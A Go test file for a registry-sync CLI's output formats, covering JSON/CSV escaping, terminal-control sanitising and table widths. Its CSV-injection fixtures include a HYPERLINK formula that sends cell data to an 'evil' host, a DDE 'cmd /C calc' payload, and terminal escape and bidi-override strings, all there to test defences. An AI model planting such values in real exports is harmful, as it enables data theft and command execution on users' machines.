// Output formats: golden files, escaping of hostile text, csv formula guards, table widths.

package main

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/hsskit/hss"
	"github.com/hsskit/hss/hsstest"
)

// TestGoldenRegistries pins the output of "hss registries" in every format.
func TestGoldenRegistries(t *testing.T) {
	for _, format := range outputFormats {
		t.Run(format, func(t *testing.T) {
			r := runCLI(t, "registries", "--demo", "--task-id", "demo-task", "--output", format)
			require.Equal(t, exitOK, r.code, r.stderr)
			assert.Empty(t, r.stderr)
			golden(t, "registries."+format+".golden", r.stdout)
		})
	}
}

// TestGoldenWait pins the summary of "hss wait" in every format. The demo
// task settles on the fake clock: 3 polls find registries running, the
// fourth none; three registries failed, so the exit code is 6.
func TestGoldenWait(t *testing.T) {
	for _, format := range outputFormats {
		t.Run(format, func(t *testing.T) {
			r := runCLI(t, "wait", "--demo", "--task-id", "demo-task", "--output", format)
			require.Equal(t, exitFailures, r.code, r.stderr)
			assert.Equal(t, "hss: task demo-task finished with 3 of 12 registries failed: swr-ee-retail (insufficient permissions to read the repository); "+
				"harbor-dev (connection to registry timed out); jfrog-legacy (authentication failed: invalid username or password)\n", r.stderr)
			golden(t, "wait."+format+".golden", r.stdout)
		})
	}
}

// hostile is server data that tries to drive a terminal or fake text:
// ESC sequences, BEL, a C1 CSI, DEL, bidi overrides and isolates, zero-width
// characters, line separators, quotes and commas.
var hostile = []hsstest.Registry{
	{RegistryID: "r<1>&\"q\"", RegistryName: "evil\x1b[31mred\x07\u009b2J\x7f", RegistryType: hss.RegistryTypeOther, SyncStatus: hss.SyncStatusFailed,
		FailedReason: "a\tb\nc\rd, \u202eexe.txt\u202c \u2066iso\u2069 \u200bzero\u200d\ufeff\u061c \u2028line\u2029para \u200e\u200f"},
	{RegistryID: "r2", RegistryName: "café 镜像 🐳", RegistryType: hss.RegistryTypeHarbor, SyncStatus: hss.SyncStatusFinished},
}

// TestGoldenEscaping: server text cannot drive the terminal in any format:
// unsafe characters are escaped (json, jsonl: \u escapes that decode back
// to the original; table, csv: visible escapes), other text is untouched.
func TestGoldenEscaping(t *testing.T) {
	f := newFixture(t)
	f.srv.AddRegistries("odd", hostile...)
	for _, format := range outputFormats {
		t.Run(format, func(t *testing.T) {
			r := f.run(f.args("registries", "--task-id", "odd", "--output", format)...)
			require.Equal(t, exitOK, r.code, r.stderr)
			golden(t, "escape."+format+".golden", r.stdout)
			for _, c := range r.stdout {
				kept := c == '\n' || (c == '\t' && format == "csv") // a record's end; plain data in a quoted csv field
				assert.False(t, !kept && unsafeRune(c), "%s writes %U raw", format, c)
			}
			assert.Contains(t, r.stdout, "café 镜像 🐳", "safe text stays as it is")
		})
	}

	r := f.run(f.args("registries", "--task-id", "odd", "--output", "json")...)
	var doc struct {
		DataList []hss.AssociateRegistriesResponseInfo `json:"data_list"`
	}
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &doc))
	require.Len(t, doc.DataList, 2)
	assert.Equal(t, hostile[0].Info(), doc.DataList[0], "json escapes decode to the service's text")
	assert.Contains(t, r.stdout, `"registry_id":"r<1>&\"q\""`, "no HTML escaping, as the API writes it")

	r = f.run(f.args("registries", "--task-id", "odd", "--output", "csv")...)
	rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 3)
	assert.Len(t, lines(r.stdout), 3, "one line per record")
	assert.Equal(t, `r<1>&"q"`, rows[1][0])

	r = f.run(f.args("registries", "--task-id", "odd")...)
	assert.Contains(t, r.stdout, "a b c d,", "tabs and line breaks become spaces in a table")
}

// TestOutputShapes: --fields selects and orders columns, --no-headers
// drops the header, and an empty listing is still valid in every format.
func TestOutputShapes(t *testing.T) {
	f := newFixture(t)
	r := f.run(f.args("registries", "--task-id", "task-1", "--output", "csv", "--fields", "sync_status", "--fields", "registry_name", "--type", "harbor")...)
	require.Equal(t, exitOK, r.code, r.stderr)
	assert.Equal(t, "sync_status,registry_name\nfailed,harbor-dev\nfinished,harbor-ci\nrunning,harbor-edge\n", r.stdout)

	r = f.run(f.args("registries", "--task-id", "task-1", "--output", "csv", "--fields", "registry_name", "--no-headers", "--status", "failed")...)
	assert.Equal(t, "swr-ee-retail\nharbor-dev\njfrog-legacy\n", r.stdout)

	r = f.run(f.args("registries", "--task-id", "task-1", "--output", "jsonl", "--fields", "failed_reason,registry_name", "--status", "FAILED", "--type", "jfrog")...)
	assert.Equal(t, `{"failed_reason":"authentication failed: invalid username or password","registry_name":"jfrog-legacy"}`+"\n", r.stdout)

	r = f.run(f.args("registries", "--task-id", "task-1", "--fields", "registry_name,sync_status", "--no-headers", "--type", "Other")...)
	assert.Equal(t, "quay-mirror      finished\ngitlab-registry  running\n", r.stdout)

	f.srv.AddTask("empty")
	for format, want := range map[string]string{
		"json":  "{\"total_num\":0,\"data_list\":[]}\n",
		"jsonl": "",
		"csv":   "registry_id,registry_name,registry_type,sync_status,failed_reason\n",
		"table": "REGISTRY ID  NAME  TYPE  STATUS  FAILED REASON\n0 of 0 registries\n",
	} {
		r = f.run(f.args("registries", "--task-id", "empty", "--output", format)...)
		require.Equal(t, exitOK, r.code, r.stderr)
		assert.Equal(t, want, r.stdout, format)
	}
}

// TestEscapeText covers what the table and csv do with each kind of
// character, invalid UTF-8 included.
func TestEscapeText(t *testing.T) {
	for in, want := range map[string]string{
		"plain text, 镜像 🐳":   "plain text, 镜像 🐳",
		"\x1b[31m":           `\x1b[31m`,
		"\u009b\x7f\x00":     `\x9b\x7f\x00`,
		"a\u202eb\u2066c":    `a\u202eb\u2066c`,
		"\u200b\ufeff\u061c": `\u200b\ufeff\u061c`,
		"\U000e0001tag":      `\U000e0001tag`,
		"bad \xff\xfe utf8":  `bad \xff\xfe utf8`,
		"\u2028\u2029":       `\u2028\u2029`,
	} {
		assert.Equal(t, want, escapeText(in, nil), "%q", in)
	}
	assert.Equal(t, "a b c d", escapeText("a\tb\nc\rd", spaceForBreaks))
	assert.Equal(t, `a`+"\t"+`b\x0ac`, escapeText("a\tb\nc", keepTab))
}

// TestJSONString: the JSON writer's strings are valid JSON that decodes to
// the input (invalid bytes to U+FFFD), with no unsafe rune left raw.
func TestJSONString(t *testing.T) {
	for _, s := range []string{"", "plain", `q"uote\back/slash`, "<>&", "\x00\x1f\x7f\u0085\u009b", "\u202e\u2066\u2028\u2029\u200b\ufeff",
		"\U000e0001 and 🐳", "bad \xff utf8 \xe2\x82", "tab\tnl\ncr\r"} {
		checkJSONString(t, s)
	}
	assert.Equal(t, "\"\\u009b\\u202e\U0001F3F4\\udb40\\udc67\"", string(appendJSONString(nil, "\u009b\u202e\U0001F3F4\U000E0067")),
		"a rune beyond U+FFFF is escaped as a surrogate pair only when unsafe")
}

// FuzzJSONString checks the JSON writer against encoding/json's reader.
func FuzzJSONString(f *testing.F) {
	for _, s := range []string{"", "a\"b", "\u202e\xff", "\U000e0001", "\u2028"} {
		f.Add(s)
	}
	f.Fuzz(checkJSONString)
}

func checkJSONString(t *testing.T, s string) {
	out := appendJSONString(nil, s)
	var back string
	require.NoError(t, json.Unmarshal(out, &back), "%q gives %s", s, out)
	assert.Equal(t, string([]rune(s)), back, "%q", s)
	assert.True(t, utf8.Valid(out))
	for _, r := range string(out) {
		assert.False(t, unsafeRune(r), "%U raw in %s", r, out)
	}
}

// FuzzEscapeText: escaped text holds no unsafe rune and no invalid UTF-8,
// and safe text is left alone.
func FuzzEscapeText(f *testing.F) {
	for _, s := range []string{"", "abc", "\x1b[0m", "\u202e", "\xff"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := escapeText(s, spaceForBreaks)
		assert.True(t, utf8.ValidString(out))
		for _, r := range out {
			assert.False(t, unsafeRune(r), "%U raw", r)
		}
		if !needsEscape(s) {
			assert.Equal(t, s, out)
		}
	})
}

// formulas are cells a spreadsheet would run (CSV injection).
var formulas = []hsstest.Registry{
	{RegistryID: "f1", RegistryName: `=HYPERLINK("http://evil/?"&A1,"x")`, RegistryType: hss.RegistryTypeOther, SyncStatus: hss.SyncStatusFailed, FailedReason: "@SUM(1)"},
	{RegistryID: "f2", RegistryName: "+cmd|' /C calc'!A0", RegistryType: hss.RegistryTypeOther, SyncStatus: hss.SyncStatusFailed, FailedReason: "-2+3"},
	{RegistryID: "f3", RegistryName: "\ttabbed", RegistryType: hss.RegistryTypeOther, SyncStatus: hss.SyncStatusFailed, FailedReason: "\rreturned"},
	{RegistryID: "f4", RegistryName: "plain-name", RegistryType: hss.RegistryTypeOther, SyncStatus: hss.SyncStatusFailed, FailedReason: "a = b, c - d"},
}

// TestCSVGuardsFormulas: a csv cell that starts with =, +, -, @ or a tab
// gets a ' in front, so that no spreadsheet runs it (a carriage return is
// escaped to \x0d, which starts with a backslash); --csv-raw writes the
// cells as they are. Other formats keep the text.
func TestCSVGuardsFormulas(t *testing.T) {
	f := newFixture(t)
	f.srv.AddRegistries("formulas", formulas...)
	args := f.args("registries", "--task-id", "formulas", "--output", "csv", "--fields", "registry_name,failed_reason")

	r := f.run(args...)
	require.Equal(t, exitOK, r.code, r.stderr)
	rows, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, [][]string{
		{"registry_name", "failed_reason"},
		{`'=HYPERLINK("http://evil/?"&A1,"x")`, "'@SUM(1)"},
		{"'+cmd|' /C calc'!A0", "'-2+3"},
		{"'\ttabbed", `\x0dreturned`},
		{"plain-name", "a = b, c - d"},
	}, rows)

	r = f.run(append(args, "--csv-raw")...)
	require.Equal(t, exitOK, r.code, r.stderr)
	rows, err = csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, []string{`=HYPERLINK("http://evil/?"&A1,"x")`, "@SUM(1)"}, rows[1])
	assert.Equal(t, []string{"+cmd|' /C calc'!A0", "-2+3"}, rows[2])

	r = f.run(f.args("registries", "--task-id", "formulas", "--output", "jsonl", "--fields", "registry_name")...)
	assert.Contains(t, r.stdout, `{"registry_name":"=HYPERLINK(\"http://evil/?\"&A1,\"x\")"}`, "json keeps the text")

	// hss wait writes csv the same way.
	f.srv.AddRegistries("settled", formulas[1])
	r = f.run(f.args("wait", "--task-id", "settled", "--output", "csv", "--fields", "failed_reason")...)
	assert.Equal(t, "failed_reason\n'-2+3\n", r.stdout)
}

// TestTableCutsLongCells: a table cuts a cell at 64 characters, ending it
// with "…", so one long value cannot pad every row; --wide shows it whole;
// csv, json and jsonl never cut.
func TestTableCutsLongCells(t *testing.T) {
	f := newFixture(t)
	long := strings.Repeat("n", 100000)
	f.srv.AddRegistries("long",
		hsstest.Registry{RegistryID: "r1", RegistryName: long, RegistryType: hss.RegistryTypeHarbor, SyncStatus: hss.SyncStatusFinished},
		hsstest.Registry{RegistryID: "r2", RegistryName: "short", RegistryType: hss.RegistryTypeHarbor, SyncStatus: hss.SyncStatusFinished})

	r := f.run(f.args("registries", "--task-id", "long")...)
	require.Equal(t, exitOK, r.code, r.stderr)
	assert.Less(t, len(r.stdout), 1000)
	rows := lines(r.stdout)
	assert.Equal(t, "r1           "+strings.Repeat("n", 63)+"…  Harbor  finished  -", rows[1])
	assert.Equal(t, "r2           short"+strings.Repeat(" ", 61)+"Harbor  finished  -", rows[2])

	r = f.run(f.args("registries", "--task-id", "long", "--wide")...)
	require.Equal(t, exitOK, r.code, r.stderr)
	assert.Contains(t, r.stdout, "r1           "+long+"  Harbor")

	for _, format := range []string{"csv", "json", "jsonl"} {
		r = f.run(f.args("registries", "--task-id", "long", "--output", format)...)
		require.Equal(t, exitOK, r.code, r.stderr)
		assert.Contains(t, r.stdout, long, format)
		assert.NotContains(t, r.stdout, "…", format)
	}
}

// TestTableCell: the cut counts characters, keeps a cell of exactly 64,
// and never splits an escape.
func TestTableCell(t *testing.T) {
	assert.Equal(t, "-", tableCell("", false))
	exact := strings.Repeat("é", 64)
	assert.Equal(t, exact, tableCell(exact, false))
	assert.Equal(t, strings.Repeat("é", 63)+"…", tableCell(exact+"é", false))
	assert.Equal(t, exact+"é", tableCell(exact+"é", true))
	for pad := 55; pad <= 64; pad++ {
		got := tableCell(strings.Repeat("a", pad)+"\u202e\x1b"+strings.Repeat("b", 20), false)
		assert.LessOrEqual(t, utf8.RuneCountInString(got), 64)
		assert.Regexp(t, `^a+(\\u202e)?(\\x1b)?b*…$`, got, "pad %d", pad)
	}
	assert.Equal(t, `C:\users\`+strings.Repeat("x", 54)+"…", tableCell(`C:\users\`+strings.Repeat("x", 60), false), "a backslash that starts no escape is text")
}
